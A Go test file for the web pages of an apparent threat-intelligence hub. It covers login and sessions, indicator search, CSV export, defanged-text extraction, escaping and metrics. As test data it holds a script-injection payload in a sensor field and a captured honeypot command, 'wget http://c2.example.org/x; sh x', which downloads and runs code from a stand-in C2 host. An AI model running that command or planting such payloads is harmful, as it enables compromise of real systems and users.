package api_test

import (
	"errors"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/opencure/cure/client"
)

func asProblem(err error, p **client.Problem) bool { return errors.As(err, p) }

// drain reads an answer to its end.
func drain(t testing.TB, resp *http.Response) (int, string) {
	t.Helper()
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

// visitor is a browser that is not logged in.
func (h *house) visitor() browser {
	h.t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		h.t.Fatal(err)
	}
	return browser{h, &http.Client{Jar: jar}}
}

// login gives a key to the form of the page.
func (b browser) login(key string) (int, string) {
	b.h.t.Helper()
	resp, err := b.c.PostForm(b.h.url+"/login", url.Values{"key": {key}})
	if err != nil {
		b.h.t.Fatal(err)
	}
	return drain(b.h.t, resp)
}

func TestAWalkThroughThePage(t *testing.T) {
	h := open(t, nil)
	h.story()
	if _, err := h.admin.PushLines(t.Context(), "bad", []byte(`{"source":"lab/one","observations":[{}],"sensor":"<script>alert(1)</script>"}`)); err != nil {
		t.Fatal(err)
	}
	h.quarantined("lab/one")
	b := h.visitor()
	if status, text := b.login("cure_abcdefgh_" + strings.Repeat("x", 43)); status != 401 || !strings.Contains(text, "not valid") {
		t.Errorf("wrong key: status %d", status)
	}
	if status, text := b.login(h.key); status != 200 || !strings.Contains(text, "Newest links") {
		t.Fatalf("login: status %d, %.300s", status, text)
	}
	for _, tt := range []struct {
		name, path string
		status     int
		want       []string
	}{
		{"home", "/", 200, []string{"198.51.100.7", "cowrie", "<svg"}},
		{"one value", "/q?q=198.51.100%5B.%5D7", 200, []string{"Known", "cowrie/tokyo1", "feeds/ipsum", "tickets/soc", "mirai", "TLP:CLEAR", "c2.example.org", "198[.]51[.]100[.]7"}},
		{"permalink", "/e/ip/198.51.100.7", 200, []string{"Timeline", "2026-11-20 01:00"}},
		{"other spelling", "/e/domain/C2.Example.ORG", 200, []string{"c2.example.org"}},
		{"several values", "/q?q=198.51.100%5B.%5D7+192.0.2.77", 200, []string{"1 value found", "cowrie/tokyo1", "192.0.2.77", "Not known here"}},
		{"network", "/q?q=198.51.100.0%2F24", 200, []string{"198.51.100.9"}},
		{"unknown value", "/q?q=192.0.2.77", 200, []string{"Not seen", "near"}},
		{"sources", "/sources", 200, []string{"cowrie/tokyo1", "TLP:RED", "batches applied"}},
		{"links", "/links", 200, []string{"cowrie", "feeds", "a=cowrie&amp;b=feeds"}},
		{"links by source", "/links?by=source", 200, []string{"cowrie/tokyo1"}},
		{"shared", "/links?a=cowrie&b=feeds", 200, []string{"198.51.100.7"}},
		{"quarantine", "/quarantine", 200, []string{"lab/one", "&lt;script&gt;"}},
		{"style", "/static/cure.css", 200, []string{"prefers-color-scheme"}},
		{"as a table", "/q?q=198.51.100.7+192.0.2.77&as=csv", 200, []string{"ip,198.51.100.7,yes,cowrie/tokyo1; feeds/ipsum; tickets/soc,2026-11-20T01:00:00Z", "ip,192.0.2.77,no,"}},
		{"table of the API", "/api/v1/search.csv?q=198.51.100.0%2F24", 200, []string{"ip,198.51.100.9,yes,feeds/ipsum"}},
		{"wrong kind", "/e/colour/red", 404, []string{"no kind"}},
		{"wrong value", "/e/ip/red", 400, nil},
		{"no record", "/r/0123456789abcdef0123456789abcdef", 404, nil},
		{"nowhere", "/nowhere", 404, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			status, text := b.get(tt.path)
			if status != tt.status {
				t.Fatalf("status %d, want %d: %.500s", status, tt.status, text)
			}
			for _, want := range tt.want {
				if !strings.Contains(text, want) {
					t.Errorf("page without %q:\n%s", want, text)
				}
			}
			if strings.Contains(text, "<script") {
				t.Error("page with a script")
			}
		})
	}

	a, err := h.admin.Answer(t.Context(), ip("198.51.100.7"))
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, s := range a.Recent {
		status, text := b.get("/r/" + url.PathEscape(s.Record))
		if status != 200 {
			t.Errorf("record %s: status %d", s.Record, status)
		}
		found = found || strings.Contains(text, "wget http://c2.example.org/x; sh x") && strings.Contains(text, "cowrie.command.input")
	}
	if !found {
		t.Error("no record shows its attributes and raw line")
	}

	resp, err := b.c.PostForm(h.url+"/q", url.Values{"text": {"攻撃元は198.51.100［.］7です。hxxp://nowhere[.]example[.]com/x も。"}})
	if err != nil {
		t.Fatal(err)
	}
	if status, text := drain(t, resp); status != 200 || !strings.Contains(text, "198.51.100.7") || !strings.Contains(text, "hxxp://nowhere[.]example[.]com/x") {
		t.Errorf("pasted text: status %d\n%s", status, text)
	}

	if resp, err = b.c.Post(h.url+"/api/v1/extract.csv", "text/plain", strings.NewReader("198[.]51[.]100[.]7 and 192.0.2.77")); err != nil {
		t.Fatal(err)
	}
	if status, text := drain(t, resp); status != 200 || !strings.Contains(text, "ip,198.51.100.7,yes") || !strings.Contains(text, "ip,192.0.2.77,no") {
		t.Errorf("table of a text: status %d\n%s", status, text)
	}

	if resp, err = b.c.PostForm(h.url+"/logout", nil); err != nil {
		t.Fatal(err)
	}
	drain(t, resp)
	req, _ := http.NewRequest("GET", h.url+"/sources", nil)
	if resp, err = b.c.Do(req); err != nil {
		t.Fatal(err)
	}
	if status, _ := drain(t, resp); status != 401 {
		t.Errorf("after logout: status %d, want 401", status)
	}
}

func TestALinkLogsInOnce(t *testing.T) {
	h := open(t, nil)
	code, err := h.sessions.OneTime(h.key)
	if err != nil {
		t.Fatal(err)
	}
	if resp, err := h.visitor().c.Head(h.url + "/login?once=" + code); err != nil || resp.StatusCode != 200 {
		t.Errorf("a look at the link: %v", err)
	}
	if status, text := h.visitor().get("/login?once=" + code); status != 200 || !strings.Contains(text, "Log out") {
		t.Errorf("first use: status %d", status)
	}
	if status, _ := h.visitor().get("/login?once=" + code); status != 401 {
		t.Errorf("second use: status %d, want 401", status)
	}
}

func TestASessionEndsWithItsKey(t *testing.T) {
	h := open(t, nil)
	key, reader := h.newKey(client.KeySpec{Name: "r", Role: "reader"})
	me, err := reader.Me(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	b := h.visitor()
	b.login(key)
	if status, _ := b.get("/sources"); status != 200 {
		t.Fatalf("before: status %d", status)
	}
	if err := h.admin.RevokeKey(t.Context(), me.Principal.Key); err != nil {
		t.Fatal(err)
	}
	if status, _ := b.get("/sources"); status != 401 {
		t.Errorf("after the key was revoked: status %d, want 401", status)
	}
}

func TestHealthAndMetrics(t *testing.T) {
	h := open(t, nil)
	h.story()
	b := h.visitor()
	if status, text := b.get("/healthz"); status != 200 || text != "ok\n" {
		t.Errorf("healthz: %d %q", status, text)
	}
	if status, text := b.get("/readyz"); status != 200 || text != "ready\n" {
		t.Errorf("readyz: %d %q", status, text)
	}
	if status, _ := b.get("/metrics"); status != 401 {
		t.Errorf("metrics without a key: %d", status)
	}
	b.login(h.key)
	status, text := b.get("/metrics")
	for _, want := range []string{"cure_http_requests_total", "cure_hub_ready 1", `cure_hub_source_records_total{source="cowrie/tokyo1"}`} {
		if !strings.Contains(text, want) {
			t.Errorf("metrics (status %d) without %s", status, want)
		}
	}
	if strings.Contains(text, "198.51.100.7") {
		t.Error("metrics hold an observable")
	}
	dashboard, err := os.ReadFile("../../packaging/grafana.json")
	if err != nil {
		t.Fatal(err)
	}
	asked := regexp.MustCompile(`cure_\w+`).FindAllString(string(dashboard), -1)
	if len(asked) < 10 {
		t.Errorf("the dashboard asks for %d figures", len(asked))
	}
	for _, name := range asked {
		if !strings.Contains(text, "\n"+name) {
			t.Errorf("the dashboard shows %s, which is not there", name)
		}
	}
}
